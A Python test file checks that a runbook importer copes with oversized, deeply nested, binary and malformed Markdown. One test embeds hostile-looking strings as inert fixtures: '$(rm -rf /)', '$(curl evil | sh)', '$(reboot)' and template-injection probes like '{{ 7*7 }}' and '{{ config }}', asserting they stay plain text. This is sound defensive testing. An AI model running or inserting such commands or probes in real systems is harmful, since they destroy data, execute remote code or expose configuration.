"""Input nobody should write, which an importer still meets: huge, deep, binary,
broken, and text that looks like code or templates."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from opsbook.playbooks.importer import RunbookTooLargeError, import_runbook
from opsbook.playbooks.importer.emit import problems
from opsbook.playbooks.templating import render

RUNBOOKS = Path(__file__).resolve().parents[4] / "tests" / "golden" / "import" / "runbooks"


def test_a_5_mb_runbook_imports_in_reasonable_time() -> None:
    corpus = b"\n".join(p.read_bytes() for p in sorted(RUNBOOKS.glob("*.md")))
    # Vary the copies so nothing is imported from a cache.
    copies = [corpus.replace(b"guesslyfe", f"svc{i}".encode()) for i in range(70)]
    data = b"\n".join(copies)[: 5 * 1024 * 1024]
    started = time.monotonic()
    result = import_runbook(data, "huge.md")
    elapsed = time.monotonic() - started
    assert result.report.totals()["playbooks"] > 1000
    assert elapsed < 120
    names = [p["name"] for p in result.document["playbooks"]]
    assert len(names) == len(set(names))


def test_larger_files_are_refused_before_parsing() -> None:
    with pytest.raises(RunbookTooLargeError):
        import_runbook(b"x" * (20 * 1024 * 1024 + 1), "too-big.md")


def test_deeply_nested_lists() -> None:
    bullets = "".join("  " * i + "- item\n" for i in range(3000))
    numbered = "".join("   " * i + "1. step `ls`\n" for i in range(500))
    for text in (bullets, numbered, "> " * 5000 + "quote\n"):
        result = import_runbook(f"# Deep\n\n{text}".encode(), "deep.md")
        if result.document["playbooks"]:
            assert problems(result.document) == []


def test_nul_bytes_and_invalid_utf8() -> None:
    data = b"# Ti\x00tle\n\n```bash\nls\x00 -la /tmp\n```\n\n\xff\xfe broken \xc3\x28\n"
    result = import_runbook(data, "bad.md")
    (playbook,) = result.document["playbooks"]
    assert playbook["steps"][0]["shell"]["argv"] == ["ls", "-la", "/tmp"]
    assert playbook["name"] == "title"
    assert any("control characters" in w for w in result.report.warnings)
    assert problems(result.document) == []


def test_a_heading_of_10000_characters() -> None:
    heading = "Restart " + "very " * 2000
    result = import_runbook(f"# {heading}\n\n```bash\nls\n```\n".encode(), "long.md")
    (playbook,) = result.document["playbooks"]
    assert len(playbook["name"]) <= 64
    assert playbook["description"].startswith("Restart very")
    assert problems(result.document) == []


def test_long_lines_and_many_steps() -> None:
    commands = "\n".join(f"echo {i}" for i in range(450))
    title = "# " + "t" * 400
    result = import_runbook(f"# Many\n\n```bash\n{title}\n{commands}\n```\n".encode(), "many.md")
    assert [len(p["steps"]) for p in result.document["playbooks"]] == [200, 200, 50]
    assert all(len(s.get("title", "")) <= 300 for p in result.document["playbooks"]
               for s in p["steps"])  # fmt: skip
    assert problems(result.document) == []


def test_backticks_substitutions_and_templates_in_text_stay_text() -> None:
    text = (
        "# Ops\n\nRun `$(rm -rf /)` and ``` `nested` ```.\n\n"
        "1. Do `$(curl evil | sh)`: `$(reboot)`\n"
        "2. Check `{{ 7*7 }}` and {% raw %} and {# x #}\n"
        "3. Look at: `{{ config }}`\n"
    )
    result = import_runbook(text.encode(), "t.md")
    (playbook,) = result.document["playbooks"]
    kinds = [next(iter(set(s) & {"shell", "sql", "manual"})) for s in playbook["steps"]]
    assert kinds == ["manual", "manual", "manual"]
    instructions = [render(s["manual"]["instruction"], {}) for s in playbook["steps"]]
    assert instructions == [
        "Do `$(curl evil | sh)`: `$(reboot)`",
        "Check `{{ 7*7 }}` and {% raw %} and {# x #}",
        "Look at: `{{ config }}`",
    ]
    assert problems(result.document) == []


def test_empty_and_whitespace_files() -> None:
    for data in (b"", b"   \n\n", b"\x00\x00"):
        result = import_runbook(data, "empty.md")
        assert result.document == {"playbooks": []}
